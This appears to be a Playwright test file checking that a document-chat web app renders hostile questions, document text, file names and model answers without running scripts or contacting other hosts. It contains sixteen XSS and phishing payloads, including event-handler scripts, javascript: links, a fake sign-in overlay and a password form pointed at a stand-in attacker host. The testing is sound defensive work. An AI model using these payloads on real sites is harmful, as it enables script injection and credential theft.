"""Hostile questions, documents and model answers in a real browser: none of them runs or asks another host for anything."""

from __future__ import annotations

from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from tests.endpoint import Endpoint
from tests.real.conftest import Command
from tests.real.pages import CHROMIUM, SLOW_MS, ask, served

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed")

FOREIGN = "https://evil.example"
PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    f"<img src={FOREIGN}/a.png>",
    f"![x]({FOREIGN}/b.png)",
    f"![x][r]\n\n[r]: {FOREIGN}/c.png",
    "[click](javascript:window.pwned=1)",
    "<svg onload=window.pwned=1><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.pwned=1</script>'></iframe><iframe src={FOREIGN}></iframe>",
    f"<video src={FOREIGN}/d.mp4 autoplay></video><audio src={FOREIGN}/e.mp3 autoplay></audio>",
    f"<div style='position:fixed;inset:0;z-index:9999;background:url({FOREIGN}/f.png)'>Sign in again</div>",
    f"<form action={FOREIGN}><input type=password name=p><button>Sign in</button></form>",
    f"<meta http-equiv=refresh content='0;url={FOREIGN}'><base href={FOREIGN}>",
    f"<link rel=stylesheet href={FOREIGN}/g.css><style>@import '{FOREIGN}/h.css';</style>",
    "<details open ontoggle=window.pwned=1>x</details><input autofocus onfocus=window.pwned=1>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62;",
    "$$\\href{javascript:window.pwned=1}{x}$$ <math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
)


@pytest.fixture(scope="module")
def address(copy_of_home: Callable[[], Path], tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A server whose documents and whose model say nothing but attacks."""
    home = copy_of_home()
    document = tmp_path_factory.mktemp("hostile") / "<img src=x onerror=window.pwned=1>.md"
    document.write_text(
        "# Zorblatt <img src=x onerror=window.pwned=1>\n\n## What it is <script>window.pwned=1</script>\n\n"
        "The Zorblatt protocol is a way of handing over jobs.\n\n" + "\n\n".join(PAYLOADS)
    )
    ingested = Command(home).run("ingest", document)
    assert ingested.returncode == 0, ingested.stderr
    with Endpoint("\n\n".join(PAYLOADS)) as endpoint, served(home, OPENAI_BASE_URL=endpoint.address) as found:
        yield found


def test_no_payload_runs_or_reaches_another_host(browser: Browser, address: str) -> None:
    """Sixteen attacks as questions, as a document's words, name and headings, and as a model's answer do nothing."""
    page = browser.new_page()
    page.set_default_timeout(SLOW_MS)
    asked_for: list[str] = []
    page.on("request", lambda request: asked_for.append(request.url))
    page.on("dialog", lambda dialog: asked_for.append(f"{FOREIGN}/dialog-{dialog.message}"))
    page.goto(address)
    expect(page.locator("#message textarea")).to_be_visible()
    ask(page, "What is the Zorblatt protocol?")
    ask(page, "What is an index? " + "\n\n".join(PAYLOADS), 2)
    page.reload()
    expect(page.locator("#messages .user.message")).to_have_count(2)
    assert_harmless(page, asked_for, address)
    page.get_by_role("tab", name="Library").click()
    expect(page.locator("#library")).to_contain_text("Zorblatt")
    assert_harmless(page, asked_for, address)
    page.close()


def assert_harmless(page: Page, asked_for: list[str], address: str) -> None:
    """Nothing ran, nothing foreign was asked for, and nothing lies over the page or asks for a password."""
    assert page.evaluate("window.pwned") is None
    hosts = {urlsplit(url).hostname for url in asked_for if not url.startswith(("data:", "blob:"))}
    assert hosts == {"127.0.0.1"}
    assert page.url.startswith(address)
    for part in ("#messages", "#library", "#sources"):
        assert page.locator(part).locator("input[type=password], iframe, form, base, link, meta").count() == 0
    links = page.locator("#messages a, #library a, #sources a").evaluate_all(
        "all => all.map(each => each.href)"
    )
    assert not [link for link in links if link.startswith("javascript:")]
